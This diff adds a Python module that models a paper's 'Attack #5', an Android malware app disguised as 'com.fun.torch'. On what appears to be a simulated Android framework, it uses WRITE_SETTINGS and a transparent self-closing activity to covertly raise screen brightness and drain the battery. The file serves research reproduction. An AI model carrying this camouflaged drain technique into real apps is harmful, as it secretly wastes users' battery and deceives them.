@@ -1,0 +1,95 @@
+"""Attack #5 — drain energy through screen configuration.
+
+"Malware could change the screen setting in background ... to avoid
+being noticed, malware could secretly escalate the brightness with a few
+levels" (§III-B).  Needs WRITE_SETTINGS.  Because "a service might not
+be able to set window attributes and the change may not be in effect
+immediately" (§V), the payload launches a transparent self-closing
+activity that commits the settings change while briefly foreground:
+
+* in manual mode, it raises the brightness by ``delta_levels``;
+* in auto mode, it reads the current auto-set value, stores a higher
+  one, and flips the mode to manual — "camouflag[ing] as Android auto
+  screen settings".
+"""
+
+from __future__ import annotations
+
+from ..android.activity import Activity
+from ..android.app import App
+from ..android.intent import ComponentName, Intent
+from ..android.manifest import ComponentDecl, ComponentKind, WRITE_SETTINGS
+from ..android.settings import (
+    BRIGHTNESS_MODE_MANUAL,
+    SCREEN_BRIGHTNESS,
+    SCREEN_BRIGHTNESS_MODE,
+)
+from .base import MalwareService, build_malware_app
+
+BRIGHTNESS_PACKAGE = "com.fun.torch"  # camouflage
+
+#: Default stealth escalation: a few of Android's 256 levels at a time.
+DEFAULT_DELTA_LEVELS = 40
+
+
+class SelfCloseActivity(Activity):
+    """Transparent one-frame activity that applies the brightness bump."""
+
+    transparent = True
+    delta_levels: int = DEFAULT_DELTA_LEVELS
+    target_level: int = 0  # 0 = relative bump; >0 = absolute target
+
+    def on_resume(self) -> None:
+        context = self.context
+        assert context is not None
+        display = context.system.display
+        if display.is_auto_mode:
+            # Camouflage path: raise above the current auto-set value,
+            # then make it effective by switching to manual.
+            base = display.auto_brightness
+            level = self.target_level or min(255, base + self.delta_levels)
+            context.put_setting(SCREEN_BRIGHTNESS, level)
+            context.put_setting(SCREEN_BRIGHTNESS_MODE, BRIGHTNESS_MODE_MANUAL)
+        else:
+            base = int(context.get_setting(SCREEN_BRIGHTNESS, 102))
+            level = self.target_level or min(255, base + self.delta_levels)
+            context.put_setting(SCREEN_BRIGHTNESS, level)
+        self.finish()
+
+
+class BrightnessService(MalwareService):
+    """Posts the transparent self-close activity from the background."""
+
+    def run_payload(self, intent: Intent) -> None:
+        assert self.context is not None
+        self.context.start_activity(
+            Intent(
+                component=ComponentName(self.context.package, "SelfCloseActivity")
+            )
+        )
+
+
+def build_brightness_malware(
+    delta_levels: int = DEFAULT_DELTA_LEVELS, target_level: int = 0
+) -> App:
+    """Attack #5 malware (requires WRITE_SETTINGS)."""
+
+    class ConfiguredSelfClose(SelfCloseActivity):
+        pass
+
+    ConfiguredSelfClose.delta_levels = delta_levels
+    ConfiguredSelfClose.target_level = target_level
+    return build_malware_app(
+        BRIGHTNESS_PACKAGE,
+        BrightnessService,
+        permissions=(WRITE_SETTINGS,),
+        extra_components=(
+            ComponentDecl(
+                name="SelfCloseActivity",
+                kind=ComponentKind.ACTIVITY,
+                exported=False,
+                transparent=True,
+            ),
+        ),
+        extra_classes={"SelfCloseActivity": ConfiguredSelfClose},
+    )
